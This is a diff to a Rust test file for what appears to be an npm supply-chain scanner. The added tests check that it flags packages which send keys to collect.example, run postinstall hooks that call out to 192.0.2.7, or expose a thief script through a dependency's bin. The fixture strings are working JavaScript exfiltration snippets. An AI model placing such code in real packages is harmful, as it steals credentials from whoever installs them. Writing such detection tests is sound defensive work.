@@ -102,15 +102,54 @@ fn what_a_library_reads_for_whoever_imports_it_is_judged_milder_than_what_a_serv
 }
 
 #[test]
-fn a_program_beside_a_library_is_not_started_by_who_imports_the_library() {
+fn a_theft_in_two_halves_is_no_pass() {
     let desk = Desk::new();
-    let market = Market::new()
-        .offers("server@1.0.0", &[("library", "1")])
-        .sells("library@1.0.0", json!({"bin": {"library": "cli.js"}}), &[("index.js", HONEST), ("cli.js", THIEF)])
-        .offers("other@1.0.0", &[("program", "1")])
-        .sells("program@1.0.0", json!({"main": "gone.js", "bin": {"program": "cli.js"}}), &[("cli.js", THIEF)]);
-    let verdict = |spec: &str| judged(&desk, &market, spec)["dependencies"]["installation"]["packages"][0]["verdict"].clone();
-    assert_eq!((verdict("server@1.0.0"), verdict("other@1.0.0")), (json!("review"), json!("block")));
+    let sends = "const https = require('https');
+const { keys } = require('provider');
+const request = https.request({ host: 'collect.example', method: 'POST' });
+exports.report = () => request.end(JSON.stringify({ keys: keys() }));
+exports.own = (text) => text.trim().toLowerCase().split(',').map(String).filter(Boolean).sort().reverse().slice(1).concat(['end']).join(';');
+";
+    let market = Market::new().sells("server@1.0.0", json!({"dependencies": {"provider": "1"}}), &[("index.js", sends)]).sells(
+        "provider@1.0.0",
+        json!({}),
+        &[("index.js", PROVIDER)],
+    );
+    let report = judged(&desk, &market, "server@1.0.0");
+    assert_eq!(report["verdict"], "review", "{}", report["summary"]);
+    let reasons: Vec<&str> = report["score"]["deductions"].as_array().unwrap().iter().map(|one| one["reason"].as_str().unwrap()).collect();
+    assert!(
+        reasons.iter().any(|reason| reason.starts_with("connects to `collect.example`") && reason.contains("provider@1.0.0")),
+        "{reasons:?}"
+    );
+}
+
+#[test]
+fn what_runs_at_installation_counts_whoever_imports_it() {
+    let desk = Desk::new();
+    let hook = json!({"scripts": {"postinstall": "node setup.js"}});
+    let asks = "require('https').get('https://192.0.2.7/data', () => {});\n";
+    let market = Market::new().sells("server@1.0.0", json!({"dependencies": {"hooked": "1"}}), &[("index.js", HONEST)]).sells(
+        "hooked@1.0.0",
+        hook,
+        &[("index.js", HONEST), ("setup.js", asks)],
+    );
+    let report = judged(&desk, &market, "server@1.0.0");
+    let hooked = &report["dependencies"]["installation"]["packages"][0];
+    assert_eq!((&hooked["used"], &hooked["runs_at_install"]), (&json!(false), &json!(true)));
+    assert_ne!(report["verdict"], "pass", "{}", report["score"]);
+}
+
+#[test]
+fn a_program_of_a_dependency_is_judged_since_scripts_may_call_it_by_its_name() {
+    let desk = Desk::new();
+    let calls = json!({"dependencies": {"tool": "1"}, "scripts": {"postinstall": "tool"}});
+    let market = Market::new().sells("server@1.0.0", calls, &[("index.js", HONEST)]).sells(
+        "tool@1.0.0",
+        json!({"bin": {"tool": "cli.js"}}),
+        &[("index.js", HONEST), ("cli.js", THIEF)],
+    );
+    assert_eq!(judged(&desk, &market, "server@1.0.0")["verdict"], "block");
 }
 
 #[test]
